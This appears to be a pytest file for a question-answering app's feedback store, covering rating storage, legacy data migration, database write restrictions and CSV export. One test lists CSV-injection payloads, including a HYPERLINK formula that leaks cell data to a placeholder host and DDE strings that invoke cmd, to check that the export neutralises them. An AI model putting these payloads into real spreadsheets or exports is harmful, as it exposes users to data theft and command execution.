"""Feedback is kept in the web app's own SQLite (QA_APP_DB), exported as CSV, and its connection writes its table only."""
from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys

import pytest

from ingest.index import DB_NAME, Index
from qa.feedback import FeedbackStore
from qa.models import NOT_FOUND, Answer, Citation


def _answer(question: str = "What is it?") -> Answer:
    cite = Citation("d1", "A report", 2, "Before. The answer, quoted. After.", 8, 27, 0.5, "/r.pdf", date="2024-01-01", passage_id=7)
    return Answer(question, "The answer, quoted.", False, 0.8, citations=[cite])


@pytest.fixture
def store(tmp_path):
    store = FeedbackStore(tmp_path / "app-data" / "app.sqlite")
    yield store
    store.close()


def test_rating_is_stored_with_question_answer_and_citations(store):
    entry_id = store.record(_answer(), "up")
    store.update(entry_id, rating="down", comment="Wrong page, <b>surely</b>")
    (entry,) = store.entries()
    assert (entry.rating, entry.comment, entry.question, entry.answer) == (
        "down", "Wrong page, <b>surely</b>", "What is it?", "The answer, quoted.")
    (cited,) = json.loads(entry.citations)
    assert (cited["title"], cited["page"], cited["passage_id"]) == ("A report", 2, 7)


def test_an_abstention_keeps_the_related_passages_it_showed(store):
    related = _answer().citations
    store.record(Answer("Off topic?", NOT_FOUND, True, 0.1, related=related), "down")
    (entry,) = store.entries()
    assert entry.abstained and json.loads(entry.citations)[0]["doc_id"] == "d1"


def test_withdrawn_rating_is_forgotten(store):
    store.withdraw(store.record(_answer(), "up"))
    assert store.entries() == []


def test_unknown_rating_is_refused(store):
    with pytest.raises(ValueError):
        store.record(_answer(), "meh")


def test_the_app_database_connection_writes_its_own_tables_only(store, scratch_index):
    other = sqlite3.connect(store.path)  # a table the app's database does not own
    other.execute("CREATE TABLE sessions (id TEXT)")
    other.execute("INSERT INTO sessions VALUES ('s1')")
    other.commit()
    other.close()
    for statement in ("DELETE FROM sessions", "UPDATE sessions SET id = 'x'", "DROP TABLE sessions",
                      "INSERT INTO sessions VALUES ('s2')", "CREATE TABLE extra (x)",
                      f"ATTACH DATABASE '{scratch_index / DB_NAME}' AS idx"):
        conn = store.db.engine.raw_connection()  # a connection of the app's own, as SQLAlchemy hands them out
        try:
            with pytest.raises(sqlite3.DatabaseError, match="not authorized"):
                conn.driver_connection.execute(statement)
        finally:
            conn.close()
    with store.db.engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT id FROM sessions").all() == [("s1",)]


def test_the_index_is_neither_needed_nor_touched(store, scratch_index):
    before = (scratch_index / DB_NAME).read_bytes()
    store.record(_answer(), "up")
    assert (scratch_index / DB_NAME).read_bytes() == before
    assert store.path.is_file() and store.path.parent.name == "app-data"


def test_csv_export_lists_every_entry(store):
    store.record(_answer(), "up", comment='Great, "exactly" it')
    out = io.StringIO()
    assert store.write_csv(out) == 1
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert dict(zip(header, row))["comment"] == 'Great, "exactly" it'


@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"https://evil.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_csv_export_makes_formulas_inert(store, hostile):
    """OWASP CSV injection: a cell a spreadsheet would evaluate starts with a single quote instead."""
    store.record(_answer(question=hostile), "down", comment=hostile)
    out = io.StringIO()
    store.write_csv(out)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row))
    assert cells["question"] == cells["comment"] == "'" + hostile
    assert cells["answer"] == "The answer, quoted." and cells["confidence"] == "0.8"  # other cells as they were


# The feedback table as versions before the app's own database had it, in the index or in QA_APP_DB.
LEGACY_SCHEMA = """
CREATE TABLE feedback (
    id INTEGER PRIMARY KEY,
    created_at TEXT NOT NULL,
    rating TEXT NOT NULL CHECK (rating IN ('up', 'down')),
    comment TEXT NOT NULL DEFAULT '',
    question TEXT NOT NULL,
    answer TEXT NOT NULL,
    abstained INTEGER NOT NULL,
    confidence REAL NOT NULL,
    citations TEXT NOT NULL
)
"""


def _legacy_feedback(index, rows):
    """Ratings as the version before kept them: a feedback table inside the index's SQLite."""
    conn = sqlite3.connect(index / DB_NAME)
    conn.execute(LEGACY_SCHEMA)
    conn.executemany("INSERT INTO feedback (created_at, rating, comment, question, answer, abstained, confidence,"
                     " citations) VALUES (?, ?, ?, ?, ?, ?, ?, ?)", rows)
    conn.commit()
    conn.close()


def test_ratings_kept_in_an_index_are_carried_over_once(store, scratch_index):
    _legacy_feedback(scratch_index, [("2025-01-02T03:04:05+00:00", "up", "", "Who?", "Her.", 0, 0.9, "[]"),
                                     ("2025-01-02T03:04:06+00:00", "down", "Wrong", "When?", "Then.", 0, 0.4, "[]")])
    store.record(_answer(), "up")
    assert store.import_from_index(scratch_index) == 2
    assert store.import_from_index(scratch_index) == 0  # every start tries: nothing is copied twice
    assert [(e.question, e.rating, e.comment) for e in store.entries()] == [
        ("What is it?", "up", ""), ("Who?", "up", ""), ("When?", "down", "Wrong")]
    assert Index(scratch_index).documents()  # the index still opens; its old table is left as it was
    assert store.import_from_index(scratch_index.parent / "no-index-here") == 0


def test_qa_feedback_csv_command_carries_old_ratings_over_and_exports(scratch_index, tmp_path):
    _legacy_feedback(scratch_index, [("2025-01-02T03:04:05+00:00", "up", "=cmd", "Who?", "Her.", 0, 0.9, "[]")])
    db = tmp_path / "app.sqlite"
    store = FeedbackStore(db)
    store.record(_answer(), "down", comment="Not this one")
    store.close()
    command = [sys.executable, "-m", "qa.cli", "feedback", "--csv", "--db", str(db), "--index", str(scratch_index)]
    for _ in range(2):
        out = subprocess.run(command, capture_output=True, text=True, check=True,
                             env={**os.environ, "PYTHONUTF8": "1"}).stdout
        rows = list(csv.DictReader(io.StringIO(out)))
        assert [(r["rating"], r["comment"], r["question"]) for r in rows] == [
            ("down", "Not this one", "What is it?"), ("up", "'=cmd", "Who?")]
